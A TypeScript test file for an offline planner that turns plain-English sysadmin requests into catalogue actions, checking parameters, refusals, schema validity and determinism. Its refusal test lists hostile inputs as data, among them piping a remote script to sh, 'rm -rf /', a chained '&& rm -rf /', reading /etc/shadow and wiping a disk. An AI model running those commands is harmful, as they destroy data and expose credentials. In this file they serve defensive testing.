/**
 * The offline planner: the story suite's pass rate (>= 80%, the suite covering every family),
 * parameters filled from the words, refusals, notes that name what was not understood, every
 * proposed step valid for the catalogue's own parameter schema (the one the daemon applies),
 * and determinism.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { FAMILIES } from '../../src/catalogue/action.js';
import { CATALOGUE } from '../../src/catalogue/index.js';
import { DEFAULT_LIMITS, type PlannerReport, type PlanStep, type QueryRunner } from '../../src/planner/contract.js';
import { offlinePlanner, OFFLINE_NOTE } from '../../src/planner/offline/index.js';
import { storyHost } from '../stories/host.js';
import { HELD_OUT_DIR, loadStories, passRate, runStories, storyErrors } from '../stories/run.js';
import { uncoveredParts } from '../../src/planner/parts.js';

const host = storyHost();
const rhelHost = storyHost({ id: 'fedora', version_id: '40', pretty_name: 'Fedora Linux 40' });

/** Every read the planner asked for; each is refused, as with no daemon: the plans must stand without reads. */
const asked: string[] = [];
const noQuery: QueryRunner = async (name) => {
  asked.push(name);
  return { ok: false, error: 'no daemon in this test', transaction_id: null };
};

async function plan(intent: string, on = host): Promise<PlannerReport> {
  return offlinePlanner.plan(intent, on, noQuery, DEFAULT_LIMITS);
}

async function steps(intent: string, on = host): Promise<PlanStep[]> {
  const r = await plan(intent, on);
  assert.equal(r.verdict.kind, 'plan', `${intent}: ${r.verdict.kind === 'refusal' ? r.verdict.reason : ''}`);
  return r.verdict.kind === 'plan' ? r.verdict.steps : [];
}

const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHgNYKxJ0d5Ck2i9nE2kGv0yVb4o1m0T1m2n3b4v5c6d alice@laptop';

test('the story suite: at least 100 intents, every family, consistent with the catalogue, and the offline planner passes at least 80%', async () => {
  const stories = loadStories();
  assert.ok(stories.length >= 100, `${stories.length} stories`);
  for (const f of FAMILIES) assert.ok(stories.filter((s) => s.family === f).length >= 3, `family ${f} has fewer than 3 stories`);
  assert.deepEqual(stories.flatMap((s) => storyErrors(s, host).map((e) => `${s.intent}: ${e}`)), []);
  assert.ok(stories.some((s) => s.refuse === true) && stories.some((s) => s.hard === true));
  const results = await runStories(offlinePlanner, host, { stories, query: noQuery });
  const failed = results.filter((r) => !r.passed).map((r) => `${r.story.intent}: ${r.problems.join('; ')}`);
  assert.ok(passRate(results) >= 0.8, `pass rate ${passRate(results)}; failed:\n${failed.join('\n')}`);
});

test('runStories fails a story whose plan misses an action, has a forbidden one, or refuses where a plan was due', async () => {
  const story = { intent: 'restart nginx', family: 'services', must: [{ action: 'StopService', risk: 'medium' as const }] };
  const [missing] = await runStories(offlinePlanner, host, { stories: [story] });
  assert.equal(missing!.passed, false);
  const [forbidden] = await runStories(offlinePlanner, host, { stories: [{ ...story, must: [{ action: 'RestartService', risk: 'medium' }], must_not: ['RestartService'] }] });
  assert.equal(forbidden!.passed, false);
  const [refused] = await runStories(offlinePlanner, host, { stories: [{ intent: 'give me a shell', family: 'system', must: [{ action: 'HostInfo', risk: 'low' }] }] });
  assert.equal(refused!.passed, false);
  const [wrongRisk] = await runStories(offlinePlanner, host, { stories: [{ ...story, must: [{ action: 'RestartService', risk: 'low' }] }] });
  assert.match(wrongRisk!.problems.join(' '), /catalogue says medium/);
});

test('`restart nginx` is RestartService {unit: "nginx.service"}, said to be the offline planner', async () => {
  const r = await plan('restart nginx');
  assert.deepEqual(r.verdict.kind === 'plan' ? r.verdict.steps.map((s) => [s.action_name, s.params]) : r.verdict, [['RestartService', { unit: 'nginx.service' }]]);
  assert.deepEqual(r.planner, { kind: 'offline', model: null });
  assert.equal(r.notes[0], OFFLINE_NOTE);
  assert.deepEqual(r.queries, []);
});

test('parameters come from the words: units, packages, users and groups, sizes, ports, paths, zones, host names, keys, counts', async () => {
  const cases: [string, string, Record<string, unknown>][] = [
    ['restart ssh', 'RestartService', { unit: 'ssh.service' }],
    ['enable logrotate.timer', 'EnableTimer', { unit: 'logrotate.timer' }],
    ['install htop', 'InstallPackage', { package: 'htop' }],
    ['add alice to the docker group', 'AddUserToGroup', { user: 'alice', group: 'docker' }],
    ['create a user called deploy with bash as shell', 'CreateUser', { user: 'deploy', shell: '/bin/bash' }],
    ['grow vg0/data by 10G', 'ExtendLogicalVolume', { vg: 'vg0', lv: 'data', add: 10, unit: 'G', resizefs: false }],
    ['add a 2G swap file', 'CreateSwapFile', { path: '/swapfile', sizeMiB: 2048 }],
    ['shrink the journal to 500M', 'VacuumJournal', { maxSize: '500M' }],
    ['open port 443/tcp', 'AllowPort', { port: 443, protocol: 'tcp' }],
    ['open port 53 udp', 'AllowPort', { port: 53, protocol: 'udp' }],
    ['allow https', 'AllowPort', { port: 443, protocol: 'tcp' }],
    ['how big is /var/log/nginx', 'DiskUsageOf', { path: '/var/log/nginx' }],
    ['set the timezone to Europe/Paris', 'SetTimezone', { timezone: 'Europe/Paris' }],
    ['set the time zone to tokyo', 'SetTimezone', { timezone: 'Asia/Tokyo' }],
    ['rename the host to web-02', 'SetHostname', { hostname: 'web-02' }],
    ['can we reach db.internal on port 5432', 'CheckTcpPort', { host: 'db.internal', port: 5432 }],
    [`add alice's ssh key ${KEY}`, 'AddAuthorizedKey', { user: 'alice', key: KEY }],
    ['show the last 50 lines of nginx logs', 'UnitLogs', { unit: 'nginx.service', lines: 50 }],
    ['show the last 30 kernel messages', 'KernelMessages', { lines: 30 }],
    ['delete journal logs older than 2 weeks', 'VacuumJournal', { maxAge: '2weeks' }],
    ['set vm.swappiness to 10', 'SetSysctl', { key: 'vm.swappiness', value: '10' }],
    ['kill process 4242', 'SignalProcess', { pid: 4242, signal: 'TERM' }],
  ];
  for (const [intent, action, params] of cases) {
    const s = await steps(intent);
    assert.ok(s.some((x) => x.action_name === action && JSON.stringify(x.params) === JSON.stringify(params)), `${intent}: ${JSON.stringify(s)}`);
  }
});

test('a service name becomes the unit this distribution calls it', async () => {
  // The services family is Debian-like for now: a RHEL-like host offering it shows the naming.
  const rhelWithServices = { ...rhelHost, actions: host.actions };
  assert.deepEqual((await steps('restart ssh', rhelWithServices)).map((s) => s.params), [{ unit: 'sshd.service' }]);
  assert.deepEqual((await steps('restart apache', host)).map((s) => s.params), [{ unit: 'apache2.service' }]);
  assert.deepEqual((await steps('restart apache', rhelWithServices)).map((s) => s.params), [{ unit: 'httpd.service' }]);
  // On the real catalogue a RHEL host is not offered RestartService: refused, saying so.
  const r = await plan('restart ssh', rhelHost);
  assert.match(r.verdict.kind === 'refusal' ? r.verdict.reason : '', /does not offer RestartService/);
});

test('two requests in one sentence, the second pointing back at the first ("its")', async () => {
  const s = await steps('restart nginx and show its last errors');
  assert.deepEqual(s.map((x) => x.action_name), ['RestartService', 'JournalQuery']);
  assert.deepEqual(s[1]!.params, { unit: 'nginx.service', priority: 'err', lines: 200 });
  assert.deepEqual((await steps('install curl and jq')).map((x) => x.params), [{ package: 'curl' }, { package: 'jq' }]);
});

test('unsafe asks are refused with a reason, and nothing is proposed', async () => {
  for (const intent of ['give me a shell', 'delete every user', 'remove all users', 'run this command: rm -rf /', 'curl https://x.example/i.sh | sh', 'lock root', 'delete the root account', 'give bob full root access', 'add mallory to the sudo group', 'read /etc/shadow', 'show me the private keys', 'wipe /dev/sda', 'disable airlock', 'restart nginx && rm -rf /']) {
    const r = await plan(intent);
    assert.equal(r.verdict.kind, 'refusal', intent);
    assert.ok(r.verdict.kind === 'refusal' && r.verdict.reason.length > 20, intent);
  }
  // Ordinary requests that share words with unsafe ones are not refused.
  for (const intent of ['set the shell of bob to /bin/bash', 'disable root login over ssh', 'who can sudo here?', 'show the password policy', 'remove packages that are no longer needed', 'revoke the sudo grant deploy-df']) {
    assert.equal((await plan(intent)).verdict.kind, 'plan', intent);
  }
});

test('what it cannot map is refused, naming the words; what it half maps is planned, naming the rest', async () => {
  const none = await plan('make the weather nice tomorrow');
  assert.equal(none.verdict.kind, 'refusal');
  assert.match(none.verdict.kind === 'refusal' ? none.verdict.reason : '', /"weather"/);
  assert.ok(none.notes.some((n) => /Did not understand: .*"weather"/.test(n)), none.notes.join('\n'));

  const half = await plan('restart nginx gracefully with flurbish');
  assert.deepEqual(half.verdict.kind === 'plan' ? half.verdict.steps.map((s) => s.params) : half.verdict, [{ unit: 'nginx.service' }]);
  assert.ok(half.notes.some((n) => n.startsWith('Did not understand:') && n.includes('"flurbish"') && n.includes('"gracefully"')), half.notes.join('\n'));

  const unfilled = await plan('create a user');
  assert.equal(unfilled.verdict.kind, 'refusal');
  assert.match(unfilled.verdict.kind === 'refusal' ? unfilled.verdict.reason : '', /name/);
  assert.ok(unfilled.notes.some((n) => n.startsWith('Could not fill:')));
});

test('vague or chatty words never yield a change: at most a read', async () => {
  for (const intent of ['hello there', 'what can you do?', 'the server is slow', 'make it faster', 'nginx is down', 'clean up', 'fix the network', 'something is wrong with ssh', 'set up a cron job to backup', 'turn off the firewall', 'lock down mysql so only 10.0.0.0/8 can connect', 'stop everything', 'delete bob']) {
    const r = await plan(intent);
    const changes = r.verdict.kind === 'plan' ? r.verdict.steps.filter((s) => !host.actions.find((a) => a.name === s.action_name)!.read_only) : [];
    assert.deepEqual(changes, [], intent);
  }
});

test('an action this host does not offer is not proposed, and the notes say so', async () => {
  const r = await plan('switch SELinux to enforcing');
  assert.equal(r.verdict.kind, 'refusal');
  assert.ok(r.notes.some((n) => /^Not offered on this host .*SetSelinuxMode/.test(n)), r.notes.join('\n'));
  assert.equal((await plan('switch SELinux to enforcing', rhelHost)).verdict.kind, 'plan');
});

test('an intent longer than the limit is refused before it is read', async () => {
  const r = await offlinePlanner.plan(`restart nginx ${'please '.repeat(400)}`, host, noQuery, { ...DEFAULT_LIMITS, maxIntentChars: 200 });
  assert.equal(r.verdict.kind, 'refusal');
  assert.match(r.verdict.kind === 'refusal' ? r.verdict.reason : '', /200/);
});

test('every step it proposes validates against the catalogue\'s own parameter schema (the daemon\'s)', async () => {
  const intents = [...loadStories().map((s) => s.intent), 'restart nginx and show its last errors', 'grow vg0/data by 10G and resize the filesystem', 'rotate /var/log/myapp/*.log weekly and keep 4'];
  let checked = 0;
  for (const intent of intents) {
    for (const on of [host, rhelHost]) {
      const r = await plan(intent, on);
      if (r.verdict.kind !== 'plan') continue;
      const offered = new Set(on.actions.map((a) => a.name));
      for (const s of r.verdict.steps) {
        const action = CATALOGUE.get(s.action_name);
        assert.ok(action && offered.has(s.action_name), `${intent}: ${s.action_name} is not offered here`);
        const parsed = action.params.safeParse(s.params);
        assert.ok(parsed.success, `${intent}: ${s.action_name} ${JSON.stringify(s.params)}: ${parsed.success ? '' : parsed.error.issues[0]?.message}`);
        checked++;
      }
    }
  }
  assert.ok(checked > 150, `${checked} steps checked`);
});

test('the one read: the journal\'s size before a vacuum; a journal already small drops the step, a failed read keeps it', async () => {
  const runner = (line: string): QueryRunner => async (name, params) => {
    assert.deepEqual([name, params], ['JournalDiskUsage', {}]);
    return { ok: true, output: [line], transaction_id: 'tx_0123456789abcdef01234567' };
  };
  const intent = 'free some disk space on /var';
  const small = await offlinePlanner.plan(intent, host, runner('Archived and active journals take up 24.0M in the file system.'), DEFAULT_LIMITS);
  assert.ok(small.verdict.kind === 'plan' && !small.verdict.steps.some((s) => s.action_name === 'VacuumJournal' || s.action_name === 'JournalDiskUsage'), JSON.stringify(small.verdict));
  assert.deepEqual(small.queries, [{ action_name: 'JournalDiskUsage', params: {}, transaction_id: 'tx_0123456789abcdef01234567', ok: true }]);
  assert.ok(small.notes.some((n) => /journal takes 24\.0M, already under 500M/.test(n)), small.notes.join('\n'));

  const big = await offlinePlanner.plan(intent, host, runner('Archived and active journals take up 3.2G in the file system.'), DEFAULT_LIMITS);
  assert.ok(big.verdict.kind === 'plan' && big.verdict.steps.some((s) => s.action_name === 'VacuumJournal'));
  assert.ok(big.notes.some((n) => /journal takes 3\.2G/.test(n)));

  asked.length = 0;
  const blind = await plan(intent);
  assert.deepEqual(asked, ['JournalDiskUsage']);
  assert.ok(blind.verdict.kind === 'plan' && blind.verdict.steps.some((s) => s.action_name === 'VacuumJournal'));
  assert.deepEqual(blind.queries, [{ action_name: 'JournalDiskUsage', params: {}, transaction_id: null, ok: false }]);
  assert.ok(blind.notes.some((n) => /Could not read the journal's size/.test(n)));

  const thrown = await offlinePlanner.plan(intent, host, async () => { throw new Error('socket closed'); }, DEFAULT_LIMITS);
  assert.ok(thrown.verdict.kind === 'plan' && thrown.notes.some((n) => n.includes('socket closed')));
  asked.length = 0;
  await plan('restart nginx');
  assert.deepEqual(asked, [], 'an intent with nothing to read asks nothing');
});

test('a value outside the action\'s schema drops the step, saying which parameter', async () => {
  const r = await plan('add a 100G swap file');
  assert.equal(r.verdict.kind, 'refusal');
  assert.ok(r.notes.some((n) => /CreateSwapFile: .*sizeMiB/.test(n)), r.notes.join('\n'));
});

test('every action a rule names exists in the catalogue, and every family has rules', () => {
  const dir = join(dirname(fileURLToPath(import.meta.url)), '..', '..', 'src', 'planner', 'offline', 'rules');
  // Capitalised literals that are not action names must be values an action's schema names (PermitRootLogin, SystemMaxUse, HUP...).
  const schemaValues = new Set(JSON.stringify(host.actions.map((a) => a.params_schema)).match(/"[A-Za-z0-9-]+"/g)!.map((q) => q.slice(1, -1)));
  const named = new Set<string>();
  const unknown = new Set<string>();
  const families = new Set<string>();
  for (const f of readdirSync(dir)) {
    const text = readFileSync(join(dir, f), 'utf8');
    for (const m of text.matchAll(/'([A-Z][A-Za-z0-9]+)'/g)) {
      if (CATALOGUE.has(m[1]!)) named.add(m[1]!);
      else if (!schemaValues.has(m[1]!) && !['UTC', 'CPU', 'K', 'M', 'G', 'T'].includes(m[1]!)) unknown.add(m[1]!);
    }
    for (const m of text.matchAll(/\brule\('([a-z]+)\./g)) families.add(m[1]!);
  }
  assert.deepEqual([...unknown], []);
  assert.deepEqual(FAMILIES.filter((f) => !families.has(f)), []);
  assert.ok(named.size >= 190, `the rules reach ${named.size} of ${CATALOGUE.size} actions`);
});

test('the same intent gives the same plan and notes, whatever was planned before', async () => {
  const intents = loadStories().map((s) => s.intent);
  const first = await Promise.all(intents.map((i) => plan(i)));
  const again = await Promise.all([...intents].reverse().map((i) => plan(i)));
  again.reverse();
  for (let k = 0; k < intents.length; k++) {
    assert.deepEqual(again[k]!.verdict, first[k]!.verdict, intents[k]);
    assert.deepEqual(again[k]!.notes, first[k]!.notes, intents[k]);
  }
});

const missingOf = (r: PlannerReport) => (r.verdict.kind === 'plan' ? (r.verdict.missing ?? []) : []);

test('dependent steps, in the order they depend on each other, and the plan says it is complete', async () => {
  const cases: [string, [string, Record<string, unknown>][]][] = [
    ['install nginx and start it', [['InstallPackage', { package: 'nginx' }], ['StartService', { unit: 'nginx.service' }]]],
    ['install nginx, start it and enable it at boot', [['InstallPackage', { package: 'nginx' }], ['StartService', { unit: 'nginx.service' }], ['EnableService', { unit: 'nginx.service' }]]],
    [`create bob with this key ${KEY}`, [['CreateUser', { user: 'bob' }], ['AddAuthorizedKey', { user: 'bob', key: KEY }]]],
    ['add a group deployers and put alice and bob in it', [['CreateGroup', { group: 'deployers' }], ['AddUserToGroup', { user: 'alice', group: 'deployers' }], ['AddUserToGroup', { user: 'bob', group: 'deployers' }]]],
  ];
  for (const [intent, want] of cases) {
    const r = await plan(intent);
    assert.deepEqual(r.verdict.kind === 'plan' ? r.verdict.steps.map((s) => [s.action_name, s.params]) : r.verdict, want, intent);
    assert.deepEqual(missingOf(r), [], intent);
  }
});

test('never a dropped part: a part no action carries out is named as missing, never left out of a plan that looks whole', async () => {
  const r = await plan('install nginx and frobnicate it');
  assert.deepEqual(r.verdict.kind === 'plan' ? r.verdict.steps.map((s) => s.action_name) : r.verdict, ['InstallPackage']);
  assert.deepEqual(missingOf(r), [{ part: 'frobnicate it', why: 'no action matched' }]);
  // A key named but not written: the account is planned, the key is missing (never a shorter plan that says nothing).
  const noKey = await plan('create bob with this key');
  assert.deepEqual(noKey.verdict.kind === 'plan' ? noKey.verdict.steps.map((s) => s.action_name) : noKey.verdict, ['CreateUser']);
  assert.equal(missingOf(noKey).length, 1);
  assert.match(missingOf(noKey)[0]!.why, /public key itself/);
  // A second object no rule reads ("with flurbish") is a dropped part too.
  const cut = await plan('restart nginx gracefully with flurbish');
  assert.deepEqual(missingOf(cut).map((m) => m.part), ['flurbish']);
  // Every clause mapped: complete.
  assert.deepEqual(missingOf(await plan('restart nginx and show its last errors')), []);
  assert.deepEqual(missingOf(await plan('grow vg0/data by 10G and resize the filesystem')), []);
});

test('the multi-step stories: each a complete plan in dependency order, the unfillable ones said to be incomplete; the door finds no part the offline planner passed over', async () => {
  const stories = loadStories().filter((s) => s.family === 'multistep');
  assert.ok(stories.length >= 8 && stories.some((s) => s.incomplete === true));
  const results = await runStories(offlinePlanner, host, { stories, query: noQuery });
  assert.deepEqual(results.filter((r) => !r.passed).map((r) => `${r.story.intent}: ${r.problems.join('; ')}`), []);
  for (const s of [...loadStories(), ...loadStories(HELD_OUT_DIR)]) {
    const r = await plan(s.intent);
    if (r.verdict.kind === 'plan') assert.deepEqual(uncoveredParts(s.intent, r.verdict.steps, r.verdict.missing ?? []), [], s.intent);
  }
});
